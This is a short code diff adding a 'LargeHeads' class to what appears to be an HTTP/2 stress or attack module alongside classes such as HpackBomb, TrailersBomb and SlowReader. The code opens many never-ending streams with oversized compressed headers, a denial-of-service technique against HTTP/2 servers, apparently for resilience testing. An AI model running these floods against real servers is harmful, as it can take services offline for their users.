@@ -184,6 +184,17 @@ class TrailersBomb(HpackBomb):
                 frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\xbe" * 16000))
 
 
+class LargeHeads(HpackBomb):
+    """Requests that never end, whose heads are as large as they may be."""
+    stream_max = 2 * 120
+
+    def more(self):
+        if self.stream > self.stream_max:
+            return b""
+        return b"".join(frame(HEADERS, END_HEADERS, self.next_stream(), UPLOAD + b"\xbe" * 11)
+                        for _ in range(20))
+
+
 class SlowReader(Attack):
     """Opens all windows and takes what comes byte by byte."""
     reads = False
